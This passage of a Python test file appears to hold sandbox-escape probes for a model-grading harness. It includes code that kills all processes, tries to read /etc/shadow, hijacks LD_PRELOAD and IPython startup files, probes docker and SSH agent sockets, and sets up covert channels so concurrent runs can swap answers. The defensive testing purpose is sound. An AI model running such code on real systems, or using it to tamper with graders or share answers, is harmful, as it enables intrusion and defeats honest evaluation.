    Attack(
        "every process in reach stopped, killed, its priority changed",
        "the grader, or the process that kernels come from",
        TRY
        + PROCESSES
        + """
import signal
def reached(pid):
    os.kill(pid, 0)
    return True
for pid in {<<VICTIM>>, *others()} - {1, os.getppid()}:
    attempt(f"a signal to {pid}", lambda: reached(pid))
    attempt(f"the memory map of {pid}", lambda: open(f"/proc/{pid}/maps").read())
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    attempt("the parent", lambda: os.kill(os.getppid(), number))
    attempt("number one", lambda: os.kill(1, number))
    time.sleep(0.3)
"""
        + DONE,
        status=BOMB_STATUS,
    ),
    Attack(
        "the kernel killed by itself, with every signal to everyone",
        "a run that can't be ended",
        """
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
try:
    os.kill(<<VICTIM>>, 0)
    print("GOT a way to a process outside; the rest is spared it")
except OSError:
    pass
else:
    raise SystemExit
try:
    os.kill(-1, signal.SIGKILL)
finally:
    os.kill(os.getpid(), signal.SIGKILL)
""",
        status="crashed",
    ),
    Attack(
        "startup files, paths, time, locale, threads, devices changed",
        "another machine for the next one",
        TRY
        + """
import ctypes, locale, stat
folder = os.path.join(get_ipython().ipython_dir, "profile_default", "startup")
os.makedirs(folder, exist_ok=True)
open(os.path.join(folder, "00-planted.py"), "w").write("planted = True")
for name in ("PYTHONPATH", "PYTHONSTARTUP", "LD_PRELOAD", "CUDA_VISIBLE_DEVICES", "OMP_NUM_THREADS", "OWL_JUDGE_X", "HF_HUB_OFFLINE"):
    os.environ[name] = os.getcwd()
sys.path.insert(0, os.getcwd())
sys.setrecursionlimit(10**6)
time_set = lambda: time.clock_settime(time.CLOCK_REALTIME, 0) or True
attempt("set the clock", time_set)
attempt("mount", lambda: ctypes.CDLL(None, use_errno=True).mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
attempt("chroot", lambda: os.chroot("/tmp") or True)
attempt("become root", lambda: os.setuid(0) or os.getuid() == 0 and open("/etc/shadow").read(1))
attempt("a device", lambda: os.mknod(os.path.expanduser("~/planted-device"), 0o666 | stat.S_IFBLK, os.makedev(254, 0)) or True)
attempt("a device's content", lambda: [open(f"/dev/{name}", "rb").read(1) for name in ("vda", "sda", "nvme0n1", "mem", "kmsg", "dm-0")])
attempt("a module", lambda: ctypes.CDLL(None).syscall(175, 0, 0, b"") == 0)
attempt("the host's name", lambda: __import__("socket").sethostname("planted") or True)
attempt("kernel settings", lambda: open("/proc/sys/kernel/hostname", "w").write("planted"))
attempt("control groups", lambda: [path for path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/tasks") if open(path, "w").write("0")])
os.nice(5)
os.sched_setaffinity(0, {0})
locale.setlocale(locale.LC_ALL, "C")
import faulthandler, gc
gc.disable()
"""
        + DONE,
        tries=10,
    ),
]

NETWORK = [
    Attack(
        "the network, the host's sockets",
        "a friend outside, a helper on the host",
        TRY
        + """
import struct
def tcp(host, port, family=socket.AF_INET):
    with socket.socket(family) as s:
        s.settimeout(1)
        s.connect((host, port))
        return "connected"
def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"canary over udp", (host, port))
        return None  # whether it arrived, the test knows
def unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(1)
        s.connect(path)
        return "connected"
attempt("tcp", lambda: tcp("127.0.0.1", <<TCP>>))
attempt("tcp 6", lambda: tcp("::1", <<TCP>>, socket.AF_INET6))
attempt("udp", lambda: udp("127.0.0.1", <<UDP>>))
attempt("outside", lambda: tcp("192.0.2.1", 80))
attempt("a name", lambda: socket.gethostbyname("example.org"))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK).connect((2, 22)) or True)
attempt("the test's socket", lambda: unix("<<UNIX>>"))
def datagram(kind):
    with socket.socket(socket.AF_UNIX, kind) as s:
        s.sendto(b"canary in a datagram", "<<UNIX>>.datagrams")
attempt("a datagram", lambda: datagram(socket.SOCK_DGRAM))
attempt("a datagram by another name", lambda: datagram(socket.SOCK_RAW))
attempt("a pair of datagram sockets", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
attempt("the test's abstract socket", lambda: unix("\\0<<ABSTRACT>>"))
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/user/0/bus", "/run/dbus/system_bus_socket", "/run/containerd/containerd.sock",
             "/tmp/.X11-unix/X0", os.environ.get("SSH_AUTH_SOCK", "/x"), os.environ.get("DBUS_SESSION_BUS_ADDRESS", "/x")):
    attempt(path, lambda: unix(path))
attempt("the host's own sockets", lambda: "<<ABSTRACT>>" in open("/proc/net/unix").read())
"""
        + DONE,
        tries=20,
    ),
]

MEETING = """
import ctypes, socket, threading, time
libc = ctypes.CDLL(None, use_errno=True)
heard, note = set(), b"right answer"
def udp(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    return s
shown = __import__("openweightlab").__file__
places = [f"{folder}/owl-meeting" for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", os.getcwd(), os.path.expanduser("~"))]
"""
SPEAK = Attack(
    "speaks to a neighbour that runs at the same time",
    "an answer for a friend",
    TRY
    + MEETING
    + """
end = time.monotonic() + <<SECONDS>>
sockets = []
for name in ("\\0owl-meeting", *(place + ".sock" for place in places)):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.bind(name)
        s.listen(5)
        s.setblocking(False)
        sockets.append(s)
    except OSError:
        continue
try:
    listener = socket.create_server(("127.0.0.1", <<PORT>>))
    listener.setblocking(False)
    sockets.append(listener)
except OSError:
    pass
segment = libc.shmget(0x0A11, 4096, 0o1666)
if segment >= 0:
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(segment, None, 0)
    if address and address != 2**64 - 1:
        ctypes.memmove(address, note, len(note))
queue = libc.msgget(0x0A12, 0o1666)
libc.prctl(15, b"owl-meeting", 0, 0, 0)  # PR_SET_NAME
import fcntl
locked = open(shown)
for lock in (lambda: fcntl.flock(locked, fcntl.LOCK_EX), lambda: fcntl.lockf(locked, fcntl.LOCK_SH), lambda: fcntl.fcntl(locked, 1024, 0)):
    try:
        lock()
    except OSError:
        continue
while time.monotonic() < end:
    for place in places:
        try:
            open(place, "wb").write(note)
        except OSError:
            continue
    for s in sockets:
        try:
            peer, _ = s.accept()
            peer.sendall(note)
        except OSError:
            continue
    open(shown).close()  # whoever watches the file sees it
    try:
        udp(<<PORT>>).sendto(note, ("127.0.0.1", <<PORT>>))
    except OSError:
        pass
    time.sleep(0.05)
tried = 1
"""
    + DONE,
    tries=1,
)
LISTEN = Attack(
    "listens to a neighbour that runs at the same time",
    "an answer from a friend",
    TRY
    + MEETING
    + """
end = time.monotonic() + <<SECONDS>>
def connect(family, name):
    with socket.socket(family) as s:
        s.settimeout(0.2)
        s.connect(name)
        return s.recv(99)
try:
    mailbox = udp(<<PORT>>)
    mailbox.bind(("127.0.0.1", <<PORT>>))
except OSError:
    mailbox = None
import fcntl, struct
lock = open(shown)
watch = libc.inotify_init1(os.O_NONBLOCK)
libc.inotify_add_watch(watch, shown.encode(), 0x20)  # IN_OPEN
def taken(work):
    try:
        work()
    except BlockingIOError:
        return True
def shared():
    segment = libc.shmget(0x0A11, 4096, 0o666)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(segment, None, 0) if segment >= 0 else None
    return address and address != 2**64 - 1 and ctypes.string_at(address, len(note))
while time.monotonic() < end:
    attempt("an abstract socket", lambda: connect(socket.AF_UNIX, "\\0owl-meeting"))
    for place in places:
        attempt(place, lambda: open(place, "rb").read())
        attempt(place + ".sock", lambda: connect(socket.AF_UNIX, place + ".sock"))
    attempt("tcp", lambda: connect(socket.AF_INET, ("127.0.0.1", <<PORT>>)))
    attempt("udp", lambda: mailbox and mailbox.recv(99))
    attempt("SysV memory", shared)
    attempt("a SysV queue", lambda: libc.msgget(0x0A12, 0) >= 0)
    attempt("names of processes", lambda: [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()
                                           and "owl-meeting" in open(f"/proc/{pid}/comm").read()])
    attempt("names of sockets", lambda: "owl-meeting" in open("/proc/net/unix").read())
    attempt("a lock", lambda: taken(lambda: fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)))
    asked = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0)
    attempt("a record lock", lambda: struct.unpack("hhqqi4x", fcntl.fcntl(lock, fcntl.F_GETLK, asked))[4])  # its owner
    attempt("a watch", lambda: os.read(watch, 4096))
    time.sleep(0.1)
"""
    + DONE,
    tries=20,
)

OWN = [*FORGED, *PATCHED, *LYING, *FINDING, *BOMBS, *OUTPUTS, *SOCKETS, *STAY, *NETWORK]
